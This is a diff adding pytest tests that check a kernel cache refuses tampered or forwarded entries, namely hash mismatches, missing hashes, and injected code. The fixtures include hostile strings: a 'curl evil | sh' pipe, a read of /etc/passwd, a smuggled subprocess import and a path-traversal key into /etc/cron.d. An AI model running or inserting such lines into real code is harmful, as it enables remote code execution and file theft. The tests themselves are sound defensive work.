@@ -340,3 +340,82 @@ def test_scalars_are_stored_as_numbers_and_odd_values_are_skipped(tmp_path, capl
         cache.put(key(signature="odd"), make_entry(max_abs_error=object()))
     assert "not JSON-ready" in caplog.text
     assert cache.get(key(signature="odd")) is None and cache.writes == 1
+
+
+# --- the writer is the trusted parent (issue 11) -----------------------------
+
+GOOD_KERNEL = '''import torch
+import triton
+import triton.language as tl
+
+
+@triton.jit
+def relu_kernel(x_ptr, y_ptr, n, BLOCK: tl.constexpr):
+    offs = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
+    mask = offs < n
+    tl.store(y_ptr + offs, tl.maximum(tl.load(x_ptr + offs, mask=mask), 0.0), mask=mask)
+
+
+def launch(x, out=None):
+    y = torch.empty_like(x) if out is None else out[0]
+    relu_kernel[(triton.cdiv(x.numel(), 1024),)](x, y, x.numel(), BLOCK=1024)
+    return y
+'''
+
+
+def test_an_entry_whose_source_was_edited_after_writing_is_ignored(tmp_path, caplog):
+    """The attack of issue 11: Python appended to a cache entry's source.
+    The hash recorded by the writer no longer matches: a logged miss."""
+    cache = KernelCache(tmp_path)
+    k = key()
+    cache.put(k, make_entry(GOOD_KERNEL))
+    path = cache.path(k)
+    stored = json.loads(path.read_text())
+    assert stored["source_sha256"] == cache_mod.source_hash(GOOD_KERNEL)
+    stored["entry"]["source"] += "\nimport os\nos.system('echo planted')\n"
+    path.write_text(json.dumps(stored))
+    with caplog.at_level(logging.WARNING, logger="lego_core.cache"):
+        assert KernelCache(tmp_path).get(k) is None
+    assert "does not match the hash" in caplog.text
+
+
+def test_an_entry_without_a_recorded_hash_is_ignored(tmp_path):
+    cache = KernelCache(tmp_path)
+    k = key()
+    cache.put(k, make_entry(GOOD_KERNEL))
+    stored = json.loads(cache.path(k).read_text())
+    del stored["source_sha256"]
+    cache.path(k).write_text(json.dumps(stored))
+    assert KernelCache(tmp_path).get(k) is None
+
+
+def test_a_child_cache_forwards_entries_instead_of_writing(tmp_path):
+    sent = []
+    child = KernelCache(tmp_path, forward=sent.append)
+    k = key()
+    child.put(k, make_entry(GOOD_KERNEL))
+    assert not any(tmp_path.iterdir()), "the child's cache wrote a file"
+    assert child.writes == 1 and sent[0]["key"] == k
+    parent = KernelCache(tmp_path)
+    assert cache_mod.store_forwarded(parent, json.loads(json.dumps(sent[0]))) is True
+    assert KernelCache(tmp_path).get(k).source == GOOD_KERNEL
+
+
+@pytest.mark.parametrize("tamper", [
+    lambda m: m["entry"].update(source=GOOD_KERNEL + "\nimport os\nos.system('curl evil | sh')\n"),
+    lambda m: m["entry"].update(source=GOOD_KERNEL + "\nopen('/etc/passwd').read()\n"),
+    lambda m: m["entry"].update(source=GOOD_KERNEL.replace("import torch", "import subprocess, torch")),
+    lambda m: m["entry"].update(source="x = 1\n"),  # no kernel at all
+    lambda m: m["entry"].update(source="A" * (cache_mod.MAX_SOURCE_CHARS + 1)),
+    lambda m: m.update(key="../../etc/cron.d/x"),
+    lambda m: m.update(entry={"signature": "abc"}),
+    lambda m: m["entry"].update(passed=False),
+], ids=["os-system", "open", "subprocess-import", "no-kernel", "too-long", "bad-key", "malformed", "passed-disagrees"])
+def test_the_parent_refuses_forwarded_entries_that_do_not_check(tmp_path, caplog, tamper):
+    message = {"key": key(), "entry": make_entry(GOOD_KERNEL).to_dict()}
+    tamper(message)
+    parent = KernelCache(tmp_path)
+    with caplog.at_level(logging.WARNING, logger="lego_core.cache"):
+        assert cache_mod.store_forwarded(parent, message) is False
+    assert "not stored" in caplog.text
+    assert not list(tmp_path.rglob("*.json"))
